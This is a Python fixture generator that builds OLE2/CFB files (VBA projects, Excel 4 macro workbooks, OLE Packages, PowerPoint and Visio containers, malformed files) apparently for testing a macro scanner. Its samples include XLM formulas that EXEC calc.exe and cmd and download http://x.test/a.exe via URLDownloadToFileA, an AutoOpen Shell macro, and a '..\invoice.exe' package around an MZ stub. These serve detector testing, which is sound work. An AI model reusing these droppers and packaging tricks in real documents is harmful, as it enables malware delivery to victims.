#!/usr/bin/env python3
"""mkcfb.py - a small OLE2/CFB writer for kensa's tests (stdlib only).

Builds compound files ([MS-CFB] v3 with 512-byte sectors, v4 with 4096)
from a list of (path, bytes) streams, small ones in the mini stream; VBA
projects ([MS-OVBA]: dir stream and module sources compressed by the
compressor below, with or without p-code, code page names); BIFF8
workbooks with an Excel 4 macro sheet; OLE Package streams; PowerPoint 97
documents holding their VBA project zlib-compressed.

    mkcfb.py OUTDIR            write the fixture set the tests use
    mkcfb.py --seeds OUTDIR    small files for the fuzz corpora
    mkcfb.py --big FILE        a v3 file with more than 109 FAT sectors
    mkcfb.py --hostile OUTDIR  broken files (loops, cycles, lies, cuts)
    mkcfb.py --package OUT LABEL FILE   FILE inside an OLE Package
    mkcfb.py --ppt-package OUT LABEL FILE   the same embedded in a .ppt
    mkcfb.py --stream OUT NAME FILE     FILE as the stream NAME
"""
import os
import struct
import sys
import zlib

ENDOFCHAIN = 0xFFFFFFFE
FREESECT = 0xFFFFFFFF
FATSECT = 0xFFFFFFFD
DIFSECT = 0xFFFFFFFC
NOSTREAM = 0xFFFFFFFF
MAGIC = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"


def _key(name):
    return (len(name), name.upper())


class _Node:
    def __init__(self, name, data=None, storage=False):
        self.name = name
        self.data = data
        self.storage = storage
        self.kids = {}
        self.left = self.right = self.child = NOSTREAM
        self.sid = 0
        self.start = ENDOFCHAIN


def cfb(streams, version=3, mini=True, storages=()):
    """A CFB file holding streams [(path, bytes)] (and empty storages)."""
    ssz = 512 if version == 3 else 4096
    root = _Node("Root Entry", storage=True)

    def place(path, data, storage):
        parts = path.split("/")
        cur = root
        for i, p in enumerate(parts):
            last = i == len(parts) - 1
            if p not in cur.kids:
                cur.kids[p] = _Node(p, None if (not last or storage) else data,
                                    storage=not last or storage)
            cur = cur.kids[p]
    for s in storages:
        place(s, None, True)
    for path, data in streams:
        place(path, data, False)

    nodes = [root]

    def number(n):
        for k in sorted(n.kids.values(), key=lambda x: _key(x.name)):
            k.sid = len(nodes)
            nodes.append(k)
        for k in n.kids.values():
            if k.storage:
                number(k)
    number(root)

    def tree(kids):
        if not kids:
            return NOSTREAM
        m = len(kids) // 2
        kids[m].left = tree(kids[:m])
        kids[m].right = tree(kids[m + 1:])
        return kids[m].sid
    for n in nodes:
        if n.storage:
            n.child = tree(sorted(n.kids.values(), key=lambda x: _key(x.name)))

    # mini stream and regular streams
    ministream = b""
    minifat = []
    regular = []
    for n in nodes[1:]:
        if n.storage:
            continue
        if mini and len(n.data) < 4096:
            if not n.data:
                continue
            n.start = len(ministream) // 64
            cnt = (len(n.data) + 63) // 64
            for i in range(cnt):
                minifat.append(n.start + i + 1 if i + 1 < cnt else ENDOFCHAIN)
            ministream += n.data + b"\0" * (-len(n.data) % 64)
        else:
            regular.append(n)

    def secs(b):
        return (b + ssz - 1) // ssz
    ndir = secs(len(nodes) * 128)
    nminifat = secs(len(minifat) * 4)
    nmini = secs(len(ministream))
    nstream = sum(secs(len(n.data)) for n in regular)
    base = ndir + nminifat + nmini + nstream
    per = ssz // 4
    nfat = ndifat = 0
    while True:
        total = base + nfat + ndifat
        f = (total + per - 1) // per
        d = max(0, (f - 109 + per - 2) // (per - 1))
        if (f, d) == (nfat, ndifat):
            break
        nfat, ndifat = f, d
    fat = [FREESECT] * (nfat * per)
    sec = 0
    fat_secs = list(range(sec, sec + nfat))
    for s in fat_secs:
        fat[s] = FATSECT
    sec += nfat
    difat_secs = list(range(sec, sec + ndifat))
    for s in difat_secs:
        fat[s] = DIFSECT
    sec += ndifat

    def alloc(count):
        nonlocal sec
        if count == 0:
            return ENDOFCHAIN
        first = sec
        for i in range(count):
            fat[sec + i] = sec + i + 1 if i + 1 < count else ENDOFCHAIN
        sec += count
        return first
    dir_start = alloc(ndir)
    minifat_start = alloc(nminifat)
    mini_start = alloc(nmini)
    for n in regular:
        n.start = alloc(secs(len(n.data)))
    root.start = mini_start
    body = {}

    def put(first, data):
        s = first
        for i in range(0, len(data), ssz):
            body[s] = data[i:i + ssz].ljust(ssz, b"\0")
            s = fat[s]
    # directory
    d = b""
    for n in nodes:
        nm = n.name.encode("utf-16-le") + b"\0\0"
        typ = 5 if n is root else (1 if n.storage else 2)
        size = len(ministream) if n is root else (0 if n.storage else len(n.data))
        start = n.start if (n is root or not n.storage) else 0
        if not n.storage and not n.data:
            start = ENDOFCHAIN
        d += struct.pack("<64sHBBIII16sIQQIQ", nm.ljust(64, b"\0"), len(nm),
                         typ, 1, n.left, n.right, n.child, b"\0" * 16, 0, 0,
                         0, start, size)
    d += b"\0" * (-len(d) % ssz)
    for i in range(len(d) // 128 - len(nodes)):
        pass
    # unused directory slots must be empty entries with NOSTREAM links
    pad = bytearray(d)
    for i in range(len(nodes), len(d) // 128):
        o = i * 128
        pad[o + 0x44:o + 0x50] = struct.pack("<III", NOSTREAM, NOSTREAM,
                                             NOSTREAM)
    put(dir_start, bytes(pad))
    if minifat:
        put(minifat_start, struct.pack("<%dI" % len(minifat), *minifat))
    if ministream:
        put(mini_start, ministream)
    for n in regular:
        put(n.start, n.data)
    allfat = fat_secs
    for i, s in enumerate(fat_secs):
        body[s] = struct.pack("<%dI" % per, *fat[i * per:(i + 1) * per])
    rest = allfat[109:]
    for j, s in enumerate(difat_secs):
        chunk = rest[j * (per - 1):(j + 1) * (per - 1)]
        chunk += [FREESECT] * (per - 1 - len(chunk))
        nxt = difat_secs[j + 1] if j + 1 < len(difat_secs) else ENDOFCHAIN
        body[s] = struct.pack("<%dI" % per, *(chunk + [nxt]))
    head = MAGIC + b"\0" * 16 + struct.pack(
        "<HHHHH6sIIIIIIIII", 0x3E, version, 0xFFFE, 9 if version == 3 else 12,
        6, b"\0" * 6, ndir if version == 4 else 0, nfat, dir_start, 0, 4096,
        minifat_start if minifat else ENDOFCHAIN, nminifat,
        difat_secs[0] if difat_secs else ENDOFCHAIN, ndifat)
    first109 = allfat[:109] + [FREESECT] * (109 - min(109, len(allfat)))
    head += struct.pack("<109I", *first109)
    head = head.ljust(ssz, b"\0")
    return head + b"".join(body[i] for i in range(sec))


# ---- MS-OVBA compression --------------------------------------------------

def _bits(diff):
    b = 4
    while (1 << b) < diff:
        b += 1
    return min(b, 12)


def ovba_compress(data):
    out = bytearray(b"\x01")
    for cs in range(0, max(len(data), 1), 4096):
        chunk = data[cs:cs + 4096]
        if not chunk:
            break
        body = bytearray()
        i = 0
        while i < len(chunk):
            flagpos = len(body)
            body.append(0)
            flags = 0
            for b in range(8):
                if i >= len(chunk):
                    break
                bits = _bits(i)
                maxlen = (0xFFFF >> bits) + 3
                best_len = best_off = 0
                for off in range(1, min(i, 1 << bits) + 1):
                    ln = 0
                    while (ln < maxlen and i + ln < len(chunk)
                           and chunk[i + ln - off] == chunk[i + ln]):
                        ln += 1
                    if ln > best_len:
                        best_len, best_off = ln, off
                if best_len >= 3:
                    tok = ((best_off - 1) << (16 - bits)) | (best_len - 3)
                    body += struct.pack("<H", tok)
                    flags |= 1 << b
                    i += best_len
                else:
                    body.append(chunk[i])
                    i += 1
            body[flagpos] = flags
        if len(body) > 4096:
            out += struct.pack("<H", 0x3FFF) + bytes(chunk).ljust(4096, b"\0")
        else:
            out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


# ---- VBA projects ----------------------------------------------------------

def _rec(rid, data):
    return struct.pack("<HI", rid, len(data)) + data


def vba_project(modules, prefix="_VBA_PROJECT_CUR", codepage=1252,
                pcode=True, unicode_names=True, version=0x00B2):
    """Streams of a VBA project.  modules: dicts with name, source (str),
    type ('std', 'class', 'doc'), optional pcode (bytes), offset_skew
    (int: MODULEOFFSET stated wrong by that much), raw (bytes: the
    compressed part as is)."""
    enc = "cp932" if codepage == 932 else "cp1252"
    p = (prefix + "/") if prefix else ""
    d = _rec(0x0001, struct.pack("<I", 1))
    d += _rec(0x0002, struct.pack("<I", 0x409))
    d += _rec(0x0014, struct.pack("<I", 0x409))
    d += _rec(0x0003, struct.pack("<H", codepage))
    d += _rec(0x0004, b"VBAProject")
    d += _rec(0x0005, b"") + _rec(0x0040, b"")
    d += _rec(0x0006, b"") + _rec(0x003D, b"")
    d += _rec(0x0007, struct.pack("<I", 0))
    d += _rec(0x0008, struct.pack("<I", 0))
    d += struct.pack("<HIIH", 0x0009, 4, 1, 2)   # PROJECTVERSION quirk
    d += _rec(0x000C, b"") + _rec(0x003C, b"")
    d += _rec(0x0016, b"stdole") + _rec(0x003E, "stdole".encode("utf-16-le"))
    d += _rec(0x000D, struct.pack("<I", 4) + b"xxxx" + b"\0" * 6)
    d += _rec(0x000F, struct.pack("<H", len(modules)))
    d += _rec(0x0013, struct.pack("<H", 0xFFFF))
    streams = []
    proj = 'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
    for m in modules:
        nm = m["name"]
        kind = m.get("type", "std")
        src = m.get("source", "").encode(enc, "replace")
        pc = m.get("pcode", b"\x01\x16\x03\x00" + bytes(range(1, 200))
                   if pcode else b"")
        comp = m["raw"] if "raw" in m else ovba_compress(src)
        off = len(pc) + m.get("offset_skew", 0)
        d += _rec(0x0019, nm.encode(enc, "replace"))
        if unicode_names:
            d += _rec(0x0047, nm.encode("utf-16-le"))
        d += _rec(0x001A, nm.encode(enc, "replace"))
        if unicode_names:
            d += _rec(0x0032, nm.encode("utf-16-le"))
        d += _rec(0x001C, b"") + _rec(0x0048, b"")
        d += _rec(0x0031, struct.pack("<I", off))
        d += _rec(0x001E, struct.pack("<I", 0))
        d += _rec(0x002C, struct.pack("<H", 0xFFFF))
        d += _rec(0x0021 if kind == "std" else 0x0022, b"")
        d += _rec(0x002B, b"")
        streams.append((p + "VBA/" + nm, pc + comp))
        proj += {"std": "Module=%s\r\n", "class": "Class=%s\r\n",
                 "doc": "Document=%s/&H00000000\r\n"}[kind] % nm
    d += _rec(0x0010, b"")[:6] + struct.pack("<I", 0)
    proj += 'Name="VBAProject"\r\n'
    streams += [
        (p + "VBA/dir", ovba_compress(d)),
        (p + "VBA/_VBA_PROJECT",
         struct.pack("<HHBH", 0x61CC, version, 0, 0)),
        (p + "PROJECT", proj.encode(enc, "replace")),
        (p + "PROJECTwm", b"\0\0"),
    ]
    return streams


# ---- BIFF8 workbooks with an Excel 4 macro sheet ---------------------------

def _biff(rtype, data):
    return struct.pack("<HH", rtype, len(data)) + data


def _bof(dt):
    return _biff(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC,
                                     0, 6))


def ptg_str(s):
    b = s.encode("latin-1")
    return bytes([0x17, len(b), 0]) + b


def ptg_int(v):
    return struct.pack("<BH", 0x1E, v)


def ptg_funcvar(argc, idx, command=False):
    return struct.pack("<BBH", 0x42, argc, idx | (0x8000 if command else 0))


def ptg_func(idx):
    return struct.pack("<BH", 0x41, idx)


def xlm_workbook(formulas, hidden=1, auto_open=True, encrypted=False,
                 auto_name=None):
    """A Workbook stream: Sheet1, then a macro sheet Macro1 (hsState
    `hidden`) holding the formulas (rgce bytes, one per row of column A)."""
    glob = _bof(0x0005)
    if encrypted:
        glob += _biff(0x002F, struct.pack("<HHH", 1, 1, 1) + b"\0" * 48)
    sheets = [("Sheet1", 0, 0), ("Macro1", hidden, 1)]
    bs_len = [len(_biff(0x0085, b"\0" * (8 + len(n)))) for n, _, _ in sheets]
    names = b""
    if auto_open:
        names += _biff(0x0018, struct.pack("<HBBHHH4B", 0x0020, 0, 1, 0, 0,
                                           0, 0, 0, 0, 0) + b"\x00\x01")
    if auto_name:
        nb = auto_name.encode("latin-1")
        names += _biff(0x0018, struct.pack("<HBBHHH4B", 0, 0, len(nb), 0, 0,
                                           0, 0, 0, 0, 0) + b"\x00" + nb)
    eof = _biff(0x000A, b"")
    sub1 = _bof(0x0010) + eof
    sub2 = _bof(0x0040)
    for row, rgce in enumerate(formulas):
        sub2 += _biff(0x0006, struct.pack("<HHH8sHIH", row, 0, 15, b"\0" * 8,
                                          0, 0, len(rgce)) + rgce)
    sub2 += eof
    off = len(glob) + sum(bs_len) + len(names) + len(eof)
    pos = [off, off + len(sub1)]
    for (n, h, dt), p in zip(sheets, pos):
        glob += _biff(0x0085, struct.pack("<IBBBB", p, h, dt, len(n), 0)
                      + n.encode())
    return glob + names + eof + sub1 + sub2


def exec_formulas():
    return [
        ptg_str("calc.exe") + ptg_funcvar(1, 110),                 # EXEC
        ptg_str("urlmon") + ptg_str("URLDownloadToFileA")
        + ptg_str("JJCCJJ") + ptg_int(0) + ptg_str("http://x.test/a.exe")
        + ptg_str("C:\\Users\\Public\\a.exe") + ptg_int(0) + ptg_int(0)
        + ptg_funcvar(8, 150),                                      # CALL
        ptg_int(65) + ptg_func(111) + ptg_str("BC") + b"\x08",      # CHAR&
        ptg_str("=EXEC(\"cmd\")") + struct.pack("<BHH", 0x24, 4, 0)
        + ptg_funcvar(2, 96, command=True),                         # FORMULA
        ptg_funcvar(0, 54),                                         # HALT
    ]


# ---- OLE Package, PowerPoint 97 --------------------------------------------

def ole10native(label, data):
    body = struct.pack("<H", 2) + label.encode() + b"\0"
    body += ("C:\\Temp\\" + label).encode() + b"\0"
    tmp = ("C:\\Users\\x\\AppData\\Local\\Temp\\" + label).encode() + b"\0"
    body += struct.pack("<HHI", 0, 3, len(tmp)) + tmp
    body += struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


def ppt_document(vba_cfb):
    z = zlib.compress(vba_cfb)
    obj = struct.pack("<HHI", 0x0010, 0x1011, 4 + len(z)) + \
        struct.pack("<I", len(vba_cfb)) + z
    atom = struct.pack("<HHI", 0x0000, 0x03E9, 8) + b"\0" * 8
    doc = struct.pack("<HHI", 0x000F, 0x03E8, len(atom)) + atom
    return doc + obj


def visio_document(vba_cfb):
    """A VisioDocument stream holding the project's CFB as Visio does:
    chunks of a length then the bytes, LZSS-coded (here all literals:
    a 0xFF flag byte before every 8 bytes), after some other bytes."""
    out = bytearray(b"\x00" * 40 + b"Visio (TM) Drawing\r\n" + b"\x00" * 20)
    for i in range(0, len(vba_cfb) + 1, 8192):
        part = vba_cfb[i:i + 8192]
        raw = struct.pack("<I", len(part)) + part
        for j in range(0, len(raw), 8):
            out += b"\xff" + raw[j:j + 8]
        if not part:
            break
    return bytes(out)


# ---- the fixture set -------------------------------------------------------

SRC = ('Attribute VB_Name = "Module1"\r\n'
       'Sub AutoOpen()\r\n'
       '    Shell "cmd /c echo hello", vbHide\r\n'
       'End Sub\r\n')
DOCSRC = ('Attribute VB_Name = "ThisWorkbook"\r\n'
          'Attribute VB_Base = "0{00020819-0000-0000-C000-000000000046}"\r\n'
          'Private Sub Workbook_Open()\r\n    Module1.AutoOpen\r\nEnd Sub\r\n')
JSRC = ('Attribute VB_Name = "\u30e2\u30b8\u30e5\u30fc\u30eb1"\r\n'
        "' \u65e5\u672c\u8a9e\u306e\u30b3\u30e1\u30f3\u30c8\r\n"
        'Sub Test()\r\n    MsgBox "\u3053\u3093\u306b\u3061\u306f"\r\n'
        'End Sub\r\n')
MZ = b"MZ\x90\x00" + b"\0" * 56 + b"PE\0\0" + b"\0" * 200


def fixtures(out):
    os.makedirs(out, exist_ok=True)

    def w(name, data):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    big = bytes((i * 7) & 0xFF for i in range(10000))
    w("plain_v3.cfb", cfb([("a", b"hello"), ("dir1/b", b"x" * 100),
                           ("dir1/big", big)], version=3))
    w("plain_v4.cfb", cfb([("a", b"hello"), ("dir1/dir2/b", b"y" * 5000),
                           ("c", b"small")], version=4))
    mods = [{"name": "Module1", "source": SRC},
            {"name": "ThisWorkbook", "source": DOCSRC, "type": "doc"}]
    w("vba_bare.bin", cfb(vba_project(mods, prefix="")))
    w("vba_v4.bin", cfb(vba_project(mods, prefix=""), version=4))
    w("vba_xls.xls", cfb([("Workbook", xlm_workbook([], auto_open=False))]
                         + vba_project(mods)))
    w("vba_doc.doc", cfb([("WordDocument", b"\xec\xa5" + b"\0" * 600)]
                         + vba_project(mods, prefix="Macros")))
    w("vba_cp932.bin", cfb(vba_project(
        [{"name": "\u30e2\u30b8\u30e5\u30fc\u30eb1", "source": JSRC}],
        prefix="", codepage=932, unicode_names=False)))
    w("vba_skew.bin", cfb(vba_project(
        [{"name": "Module1", "source": SRC, "offset_skew": -7}], prefix="")))
    w("vba_skew2.bin", cfb(vba_project(
        [{"name": "Module1", "source": SRC, "offset_skew": 11}], prefix="")))
    w("vba_stomped.bin", cfb(vba_project(
        [{"name": "Module1", "source": "", "raw": b"\x01"}], prefix="")))
    # PowerPoint: the p-code cache is there but _VBA_PROJECT says 0xFFFF
    w("vba_ppt_benign.bin", cfb(vba_project(
        [{"name": "Module1", "source": "", "raw": b"\x01"}], prefix="",
        version=0xFFFF)))
    w("vba_nopcode.bin", cfb(vba_project(mods, prefix="", pcode=False)))
    w("xlm.xls", cfb([("Workbook", xlm_workbook(exec_formulas()))]))
    w("xlm_veryhidden.xls", cfb([("Workbook", xlm_workbook(
        exec_formulas(), hidden=2, auto_open=False,
        auto_name="Auto_Open_x"))]))
    w("xlm_encrypted.xls", cfb([("Workbook", xlm_workbook(
        exec_formulas(), encrypted=True))]))
    w("benign.xls", cfb([("Workbook", xlm_workbook([], auto_open=False)),
                         ("\x05SummaryInformation", b"\xfe\xff" + b"\0" * 50)]))
    w("package.doc", cfb([("WordDocument", b"\xec\xa5" + b"\0" * 600),
                          ("ObjectPool/_1234/\x01Ole10Native",
                           ole10native("..\\invoice.exe", MZ)),
                          ("ObjectPool/_1234/\x03ObjInfo", b"\0" * 6)]))
    vbabin = cfb(vba_project(mods, prefix=""))
    w("ppt97.ppt", cfb([("PowerPoint Document", ppt_document(vbabin)),
                        ("Current User", b"\0" * 20)]))
    # a signed project's signature streams, and a VBA storage without dir
    # (what an embedded workbook leaves): no project
    w("signature.xls", cfb([("\x05DigitalSignature", b"\x30\x82" + b"\0" * 300),
                            ("_VBA_PROJECT_CUR/VBA/_VBA_PROJECT",
                             struct.pack("<HHBH", 0x61CC, 0xB2, 0, 0)),
                            ("Workbook", xlm_workbook([], auto_open=False))]))
    w("visio.vsd", cfb([("VisioDocument", visio_document(vbabin)),
                        ("VisioInformation", b"\0" * 30)]))
    # a nested CFB stream
    w("nested.cfb", cfb([("inner", cfb([("x", b"inner")]))]))


def hostile(out):
    """Broken files: every reader must warn or skip, never crash or hang."""
    os.makedirs(out, exist_ok=True)

    def w(name, data):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    good = cfb([("a", b"hello"), ("d/big", bytes(range(256)) * 40)]
               + vba_project([{"name": "M", "source": SRC}], prefix="x"))
    w("truncated.cfb", good[:700])
    w("cut_tail.cfb", good[:len(good) - 1500])
    # every FAT entry points at itself: each chain loops at once
    b = bytearray(good)
    fat0 = struct.unpack_from("<I", b, 0x4C)[0]
    o = (fat0 + 1) * 512
    for i in range(128):
        v = struct.unpack_from("<I", b, o + 4 * i)[0]
        if v < 0xFFFFFFF0:
            struct.pack_into("<I", b, o + 4 * i, i)
    w("fat_loop.cfb", bytes(b))
    # directory links that point back up (a cycle) and at themselves
    b = bytearray(good)
    dsec = struct.unpack_from("<I", b, 0x30)[0]
    o = (dsec + 1) * 512
    for e in range(1, 4):
        struct.pack_into("<III", b, o + e * 128 + 0x44, 0, e, 1)
    w("dir_cycle.cfb", bytes(b))
    # sizes that lie
    b = bytearray(good)
    for e in range(1, 4):
        struct.pack_into("<I", b, o + e * 128 + 0x78, 0xFFFFFFF0)
    w("size_lie.cfb", bytes(b))
    # costs an attacker chooses: a million sheet BOFs after 1,024 macro
    # sheets; 16 projects of 256 modules all naming one 1 MiB stream
    wb = _bof(5) + b"".join(_biff(0x85, struct.pack("<IBBBB", i, 0, 1, 1, 0)
                                  + b"M") for i in range(1024))
    w("many_bofs.xls", cfb([("Workbook", wb + _biff(0x0809, b"") * 1000000)]))
    st, seen = [], set()
    one = vba_project([{"name": "Big", "source": "x"}] * 256, prefix="P")
    for p in range(16):
        for path, data in one:
            path = "P%d" % p + path[1:]
            if path.endswith("/Big"):
                if path in seen:
                    continue
                seen.add(path)
                data = b"\x01\x30\x30" * 350000
            st.append((path, data))
    w("same_stream.bin", cfb(st))
    # a bad sector shift, header only
    b = bytearray(good)
    struct.pack_into("<H", b, 0x1E, 30)
    w("bad_shift.cfb", bytes(b))


def seeds(out):
    """Small inputs for the fuzz corpora (fuzz/corpus/{cfb,vba,xlm})."""
    for d in ("cfb", "vba", "xlm"):
        os.makedirs(os.path.join(out, d), exist_ok=True)

    def w(d, name, data):
        with open(os.path.join(out, d, name), "wb") as f:
            f.write(data)
    mods = [{"name": "Module1", "source": SRC}]
    w("cfb", "vba_bare", cfb(vba_project(mods, prefix="")))
    w("cfb", "v4", cfb([("a", b"b" * 70), ("s/t", b"c" * 5000)], version=4))
    w("cfb", "cp932", cfb(vba_project(
        [{"name": "\u30e21", "source": JSRC}], prefix="", codepage=932,
        unicode_names=False)))
    w("cfb", "skew", cfb(vba_project(
        [{"name": "M", "source": SRC, "offset_skew": -3}], prefix="")))
    # the first byte picks the code page (fuzz/fuzz_vba.c)
    w("vba", "src", b"\x00" + ovba_compress(SRC.encode() * 3))
    w("vba", "long", b"\x01" + ovba_compress(bytes(range(256)) * 20))
    w("vba", "ppt", b"\x00" + ppt_document(cfb(vba_project(mods, prefix=""))))
    w("vba", "visio", b"\x00" + visio_document(cfb(vba_project(mods, prefix=""))))
    w("xlm", "exec", xlm_workbook(exec_formulas()))
    w("xlm", "names", xlm_workbook(exec_formulas()[:1], hidden=2,
                                   auto_name="auto_close_1"))
    # the engine's harness (fuzz_scan) walks them through the cfb format
    os.makedirs(os.path.join(out, "scan"), exist_ok=True)
    full = [{"name": "Module1", "source": SRC},
            {"name": "ThisWorkbook", "source": DOCSRC, "type": "doc"}]
    vbabin = cfb(vba_project(full, prefix=""))
    w("scan", "package.doc", cfb([
        ("WordDocument", b"\xec\xa5" + b"\0" * 600),
        ("ObjectPool/_1234/\x01Ole10Native", ole10native("..\\invoice.exe", MZ)),
        ("ObjectPool/_1234/\x03ObjInfo", b"\0" * 6)]))
    w("scan", "vba.ppt", cfb([("PowerPoint Document", ppt_document(vbabin)),
                              ("Current User", b"\0" * 20)]))
    w("scan", "vba.vsd", cfb([("VisioDocument", visio_document(vbabin)),
                              ("VisioInformation", b"\0" * 30)]))


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--seeds":
        seeds(sys.argv[2])
    elif len(sys.argv) == 3 and sys.argv[1] == "--big":
        data = bytes((i * 13) & 0xFF for i in range(8 << 20))
        with open(sys.argv[2], "wb") as f:
            f.write(cfb([("big", data), ("small", b"tail-ok")], version=3))
    elif len(sys.argv) == 3 and sys.argv[1] == "--hostile":
        hostile(sys.argv[2])
    elif len(sys.argv) == 5 and sys.argv[1] in ("--package", "--stream",
                                                 "--ppt-package"):
        # --package OUT LABEL FILE: FILE in an OLE Package of a .doc;
        # --stream OUT NAME FILE: FILE as stream NAME (a path) of a CFB
        with open(sys.argv[4], "rb") as f:
            payload = f.read()
        if sys.argv[1] == "--ppt-package":
            obj = cfb([("\x01Ole10Native", ole10native(sys.argv[3], payload))])
            data = cfb([("PowerPoint Document", ppt_document(obj)),
                        ("Current User", b"\0" * 20)])
        elif sys.argv[1] == "--package":
            data = cfb([("WordDocument", b"\xec\xa5" + b"\0" * 600),
                        ("ObjectPool/_1/\x01Ole10Native",
                         ole10native(sys.argv[3], payload))])
        else:
            data = cfb([(sys.argv[3], payload)])
        with open(sys.argv[2], "wb") as f:
            f.write(data)
    elif len(sys.argv) == 2:
        fixtures(sys.argv[1])
    else:
        sys.exit(__doc__)
